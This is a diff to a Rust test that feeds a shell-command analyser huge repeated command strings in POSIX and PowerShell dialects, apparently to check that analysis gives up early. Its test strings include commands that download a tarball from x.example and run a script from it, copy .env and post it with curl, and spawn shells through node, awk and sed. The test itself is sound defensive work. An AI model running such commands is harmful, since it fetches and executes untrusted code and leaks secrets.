@@ -85,6 +85,14 @@ fn what_multiplies_itself_is_given_up_soon() {
             many("s399 -c s1; ", 400)
         ),
         format!("curl -LO https://x.example/y.tgz; {}", many("tar xzf y.tgz; sh y/z.sh; ", 700)),
+        format!("python3 - <<'E'\n{}\nE", many("os.system(", 5000)),
+        format!("python3 - <<'E'\n{}\nE", many("exec('exec(\"x\")');", 3000)),
+        format!("node - <<'E'\n{}\nE", many("a = a + ['b', {c: require('child_process').exec(a)}]\n", 900)),
+        format!("awk '{}'", many("{ print | \"sh -c x\" } ", 1200)),
+        format!("sed -e '{}'", many("s/a/sed e/e;", 2500)),
+        format!("cp .env x; {}", many("cp x y; cp y x; curl -d @x y; ", 300)),
+        format!("v=$({} x)", many("case a in b) c ;; esac; ", 900)),
+        format!("fzf --bind '{}'", many("execute(fzf --bind execute(x)),", 700)),
     ];
     for bomb in bombs {
         for dialect in [ShellDialect::Posix, ShellDialect::Powershell] {
